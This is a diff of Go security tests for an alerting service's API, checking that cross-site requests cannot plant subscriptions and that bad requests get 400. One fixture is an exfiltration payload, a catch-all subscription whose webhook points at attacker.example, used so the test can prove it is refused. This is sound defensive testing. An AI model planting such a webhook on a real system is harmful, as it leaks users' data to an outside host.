@@ -23,7 +23,7 @@ role = "own"
 // to 127.0.0.1 reads the index. Neither reaches the store.
 func TestCrossSiteCannotPlantASubscription(t *testing.T) {
 	g := newTestGatherer(t, redTeamConfig)
-	srv := httptest.NewServer(apiHandlerFor(g, g.cfg.API, nil))
+	srv := httptest.NewServer(apiHandlerFor(g, DefaultConfig().API, nil))
 	defer srv.Close()
 	plant := `{"name": "exfil", "query": "*", "webhook_url": "https://attacker.example/hook"}`
 	for _, tt := range []struct {
@@ -63,7 +63,7 @@ func TestCrossSiteCannotPlantASubscription(t *testing.T) {
 	if resp.StatusCode != http.StatusMisdirectedRequest {
 		t.Errorf("search through a rebound name: %d", resp.StatusCode)
 	}
-	if subs, err := g.alerts.ListSubscriptions(t.Context()); err != nil || len(subs) != 0 {
+	if subs, err := g.Alerter().ListSubscriptions(t.Context()); err != nil || len(subs) != 0 {
 		t.Errorf("subscriptions planted: %v %v", subs, err)
 	}
 	// The API's own clients still work.
@@ -84,7 +84,7 @@ func cmpOr(a, b string) string {
 // subscription name) is refused as the client's mistake.
 func TestBadRequestsAnswer400(t *testing.T) {
 	g := newTestGatherer(t, redTeamConfig)
-	srv := httptest.NewServer(apiHandlerFor(g, g.cfg.API, nil))
+	srv := httptest.NewServer(apiHandlerFor(g, DefaultConfig().API, nil))
 	defer srv.Close()
 	for _, path := range []string{"/api/v1/digest?week=9999-W52", "/api/v1/digest?week=0000-W01", "/digest?week=9999-W52", "/digest?week=0000-W01"} {
 		resp, err := http.Get(srv.URL + path)
@@ -108,7 +108,7 @@ func TestBadRequestsAnswer400(t *testing.T) {
 			t.Errorf("POST %s (%d bytes): %d %.200v, want 400 with %q", tt.path, len(tt.body), status, body, tt.want)
 		}
 	}
-	if subs, _ := g.alerts.ListSubscriptions(t.Context()); len(subs) != 0 {
+	if subs, _ := g.Alerter().ListSubscriptions(t.Context()); len(subs) != 0 {
 		t.Errorf("stored: %d subscriptions", len(subs))
 	}
 }
